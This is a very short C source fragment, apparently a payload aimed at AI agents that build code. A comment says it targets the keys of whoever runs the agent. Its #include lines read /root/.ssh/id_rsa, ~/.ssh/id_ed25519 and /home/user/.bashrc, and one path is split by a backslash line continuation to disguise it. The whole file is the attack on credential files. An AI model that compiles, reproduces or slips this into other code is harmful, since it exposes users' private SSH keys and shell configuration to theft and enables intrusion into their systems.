// tries: keys of whoever runs the agent
#include "/ro\
ot/.ssh/id_rsa"
#include "~/.ssh/id_ed25519"
#include "/home/user/.bashrc"
